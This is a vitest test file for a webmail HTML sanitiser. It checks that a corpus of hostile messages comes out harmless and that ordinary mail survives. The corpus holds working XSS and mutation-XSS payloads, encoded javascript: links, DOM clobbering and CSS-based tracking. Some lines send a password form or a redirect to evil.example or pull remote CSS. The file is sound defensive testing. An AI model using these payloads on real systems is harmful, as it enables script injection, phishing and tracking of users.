// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { sanitiseHtml } from './safe-html.ts';

const cids: Record<string, string> = { 'logo@mail': '/api/file/attachment/signed' };

function clean(html: string): { body: HTMLElement; blocked: number; text: string } {
  const safe = sanitiseHtml(html, { resolveCid: (contentId) => cids[contentId] });
  if (safe.kind !== 'fragment') throw new Error('refused');
  const body = document.createElement('div');
  body.append(document.importNode(safe.fragment, true));
  return { body, blocked: safe.blockedPictures, text: body.textContent };
}

/** Everything in a message that could act: elements that are not plain, and attributes that run or load. */
function dangersIn(body: HTMLElement): string[] {
  const dangers: string[] = [];
  for (const element of body.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') dangers.push(`namespace of ${tag}`);
    if (
      /^(script|style|svg|math|form|input|button|textarea|select|iframe|frame|object|embed|link|meta|base|template|video|audio|source|picture|dialog|noscript|title|map|area|canvas)$/.test(
        tag,
      )
    )
      dangers.push(tag);
    for (const { name, value } of element.attributes) {
      if (
        /^on|^(id|name|class|srcset|ping|formaction|action|autofocus|contenteditable|tabindex|srcdoc|poster|background|cite|xlink:href|usemap|is|popover|popovertarget|download)$/i.test(
          name,
        )
      )
        dangers.push(`${tag}@${name}`);
      if (name === 'href' && !/^(\/#\/linkPage\?url=https?%3A|mailto:|tel:)/.test(value)) dangers.push(`href ${value}`);
      if (name === 'src' && !/^(data:image\/(png|gif|jpeg|webp);base64,|\/api\/file\/)/.test(value))
        dangers.push(`src ${value}`);
      if (name === 'style' && /url|expression|import|position|@|\\|var\(|attr\(|image/i.test(value))
        dangers.push(`style ${value}`);
    }
  }
  return dangers;
}

// One line for each class of what broke webmail before (docs/security.md), and for the ways around a filter.
const attacks: readonly [string, string][] = [
  [
    'svg animation of a link',
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>',
  ],
  [
    'svg set, by',
    '<svg><animate attributeName="href" by="javascript:alert(1)" begin="0s"/><set attributeName=onmouseover to=alert(1)></svg>',
  ],
  ['svg use', '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>'],
  ['svg foreignObject', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>'],
  ['svg feImage', '<svg><filter><feImage xlink:href="https://track.example/x"/></filter></svg>'],
  [
    'math namespace confusion',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['math with a link', '<math href="javascript:alert(1)">click</math>'],
  ['cdata', '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>'],
  ['mutation through noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  [
    'mutation through form and table',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  ['mutation through a comment', '<!--><img src=x onerror=alert(1)>-->'],
  ['unclosed attribute', '<img src="x` `<script>alert(1)</script>"` `>'],
  ['script', '<script>alert(1)</script><scr<script>ipt>alert(1)</script>'],
  [
    'event handlers',
    '<img src=x onerror=alert(1)><body onload=alert(1)><p onmouseover=alert(1) ONCLICK=alert(1)>x</p>',
  ],
  [
    'javascript link',
    '<a href="javascript:alert(1)">x</a><a href=" &#14;javascript:alert(1)">x</a><a href="java&#10;script:alert(1)">x</a>',
  ],
  [
    'other schemes',
    '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">x</a><a href="file:///etc/passwd">x</a><a href="blob:https://x/1">x</a>',
  ],
  [
    'links into the application',
    '<a href="#/set/account">x</a><a href="/api/oauth/logout">x</a><a href="//evil.example">x</a><a href="set">x</a>',
  ],
  [
    'base and meta',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example"><a href="x">x</a>',
  ],
  [
    'form that asks for a password',
    '<form action="https://evil.example"><input type=password name=p autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>',
  ],
  [
    'frames and plugins',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x><frameset><frame src=x></frameset>',
  ],
  [
    'media',
    '<video poster="https://track.example/x" src=x onerror=alert(1)></video><audio src=x></audio><picture><source srcset="https://track.example/x"></picture>',
  ],
  [
    'remote pictures by every name',
    '<img src="https://track.example/x"><img srcset="https://track.example/x 1x"><table background="https://track.example/x"><tr><td background="//track.example/y">x</td></tr></table><input type=image src="https://track.example/z">',
  ],
  [
    'remote pictures by style',
    '<p style="background:url(https://track.example/x)">x</p><p style="background-image:u\\72l(https://track.example/x)">x</p><p style="--x:url(https://track.example/x);background:var(--x)">x</p><p style="background:url(https://track.example/x">x</p><p style="background:image-set(\'https://track.example/x\' 1x)">x</p><p style="list-style-image:url(x);cursor:url(x),auto;content:url(x)">x</p>',
  ],
  [
    'style element',
    '<style>@import "https://evil.example/x.css"; :root{--x:1} body{position:fixed!important} @font-face{font-family:x;src:url(https://track.example)} @property --x{} @layer a;</style><p>x</p>',
  ],
  [
    'covering the page',
    '<div style="position:fixed;inset:0;z-index:9999">x</div><div style="position:sticky;top:0">x</div><div style="POSITION : absolute!important">x</div>',
  ],
  [
    'old script in styles',
    '<p style="width:expression(alert(1))">x</p><p style="-moz-binding:url(x);behavior:url(x)">x</p>',
  ],
  [
    'clobbering',
    '<img name=body><form id=document><a id=defaultView name=location href="https://x.example">x</a><p id=__proto__ class=x>x</p>',
  ],
  [
    'data of another kind',
    '<img src="data:image/svg+xml;base64,PHN2Zz4="><img src="data:text/html;base64,PHNjcmlwdD4="><img src="DATA:image/png,notbase64">',
  ],
  ['cid that is none of the mail', '<img src="cid:other@mail"><img src="cid:../../x">'],
  [
    'custom elements and slots',
    '<p is="x-y">x</p><template shadowrootmode=open><script>alert(1)</script></template><slot name=x></slot>',
  ],
  [
    'ping and download',
    '<a href="https://x.example" ping="https://track.example" download="x.exe" target="_top" rel="opener">x</a>',
  ],
  [
    'maps',
    '<map name=m><area href="javascript:alert(1)" shape=default></map><img usemap="#m" src="data:image/png;base64,AAAA">',
  ],
  [
    'editing and popovers',
    '<p contenteditable tabindex=1 accesskey=x popover autofocus>x</p><button popovertarget=x>x</button><dialog open>x</dialog>',
  ],
  [
    'entities in attributes',
    '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a><img src="&#104;ttps://track.example/x">',
  ],
];

it('most of the corpus is dangerous as it came: the tests below can fail', () => {
  const raw = attacks.map(([, html]) => new DOMParser().parseFromString(`<p>x</p>${html}`, 'text/html').body);
  expect(raw.filter((body) => dangersIn(body).length > 0).length).toBeGreaterThan(attacks.length - 4);
});

describe('a hostile message', () => {
  it.each(attacks)('is harmless: %s', (_name, html) => {
    expect(dangersIn(clean(html).body)).toEqual([]);
  });

  it('is harmless when any two come in one message', () => {
    for (const [, first] of attacks)
      for (const [, second] of attacks) expect(dangersIn(clean(first + second).body)).toEqual([]);
  });

  it('is refused when it is too large or too deep', () => {
    const refused = (html: string): string => sanitiseHtml(html, { resolveCid: () => undefined }).kind;
    expect(refused('x'.repeat(2 * 1024 * 1024 + 1))).toBe('refused');
    expect(refused('<b>'.repeat(400) + 'x')).toBe('refused');
    expect(refused('<i></i>'.repeat(60_001))).toBe('refused');
    expect(refused('<div>'.repeat(100) + 'x')).toBe('fragment');
  });
});

describe('an honest message', () => {
  it('keeps its words, tables and plain styles', () => {
    const { body } = clean(
      '<table style="border-collapse:collapse;width:600px"><tr><td style="padding:4px;color:rgb(1,2,3)">预算</td></tr></table>',
    );
    expect(body.querySelector('td')?.textContent).toBe('预算');
    expect(body.querySelector('td')?.getAttribute('style')).toBe('padding: 4px; color: rgb(1,2,3)');
  });

  it('leads its links over the warning page, in a window that knows nothing of this one', () => {
    const link = clean('<a href="https://budget.example/q?a=1&amp;b=2#c">x</a>').body.querySelector('a');
    expect(link?.getAttribute('href')).toBe(
      `/#/linkPage?url=${encodeURIComponent('https://budget.example/q?a=1&b=2#c')}`,
    );
    expect(link?.target).toBe('_blank');
    expect(link?.rel).toBe('noopener noreferrer nofollow');
  });

  it('keeps mail and telephone links as they are', () => {
    const links = [
      ...clean('<a href="mailto:a@b.example">x</a><a href="tel:+861012345678">x</a>').body.querySelectorAll('a'),
    ];
    expect(links.map((link) => link.getAttribute('href'))).toEqual(['mailto:a@b.example', 'tel:+861012345678']);
  });

  it('shows the pictures that it brings', () => {
    const { body, blocked } = clean(
      '<img src="cid:logo@mail" alt="logo"><img src="data:image/png;base64,iVBORw0KGgo=">',
    );
    expect([...body.querySelectorAll('img')].map((image) => image.getAttribute('src'))).toEqual([
      '/api/file/attachment/signed',
      'data:image/png;base64,iVBORw0KGgo=',
    ]);
    expect(blocked).toBe(0);
  });

  it('counts the pictures that were blocked', () => {
    expect(
      clean('<img src="https://a.example/1"><img src="//a.example/2"><td background="x">').blocked,
    ).toBeGreaterThanOrEqual(2);
  });
});

it('shows the picture of stationery behind the message: one inside the mail, no other', () => {
  const html = '<table background="cid:logo@mail"><tr><td background="cid:none@mail">x</td></tr></table>';
  const safe = sanitiseHtml(html, { resolveCid: (id) => cids[id] });
  if (safe.kind !== 'fragment') throw new Error('refused');
  expect(safe.fragment.querySelector('table')?.getAttribute('background')).toBe('/api/file/attachment/signed');
  expect(safe.fragment.querySelector('td')?.hasAttribute('background')).toBe(false);
});

describe('remote pictures', () => {
  const message =
    '<img src="https://a.example/1.png"><img src="//a.example/2.png"><img src=" HTTP://A.example/3.png "><img src="https://a.example/1.png">' +
    '<img src="ftp://a.example/4.png"><img src="javascript:1"><img src="/p/fake?u=x"><img src="cid:logo@mail">' +
    '<table background="https://a.example/5.png"><tr><td>x</td></tr></table>' +
    '<img srcset="https://a.example/6.png 2x"><div style="background: url(https://a.example/7.png)">y</div>';
  const remote = [
    'https://a.example/1.png',
    'https://a.example/2.png',
    'http://a.example/3.png',
    'https://a.example/5.png',
  ];
  const sanitise = (resolvePicture?: (url: string) => string | undefined) => {
    const resolveCid = (id: string) => cids[id];
    const safe = sanitiseHtml(message, { resolveCid, ...(resolvePicture ? { resolvePicture } : {}) });
    if (safe.kind !== 'fragment') throw new Error('refused');
    const sources = [...safe.fragment.querySelectorAll('[src],[background]')].map(
      (element) => element.getAttribute('src') ?? element.getAttribute('background'),
    );
    return { ...safe, sources };
  };
  it('are reported and counted, and none of them is left in the message', () => {
    const safe = sanitise();
    expect(safe.remotePictures).toEqual(remote);
    expect(safe.sources).toEqual(['/api/file/attachment/signed']);
    expect(safe.blockedPictures).toBe(8);
  });
  it('are shown by their paths on this server, and only those that have one', () => {
    const safe = sanitise((url) => (url.endsWith('2.png') ? undefined : `/p/1-2~x?u=${encodeURIComponent(url)}`));
    expect(safe.sources.filter((source) => source?.startsWith('/p/'))).toHaveLength(4);
    expect(safe.sources.some((source) => source?.includes('2.png'))).toBe(false);
    expect(safe.sources.every((source) => source?.startsWith('/'))).toBe(true);
  });
  it('never by anything that is no path of the proxy', () => {
    for (const path of [
      'https://evil.example/',
      '//evil.example/p/x?u=y',
      '/api/x',
      '/p/x',
      'data:image/png;base64,AAAA',
    ])
      expect(sanitise(() => path).sources).toEqual(['/api/file/attachment/signed']);
  });
});
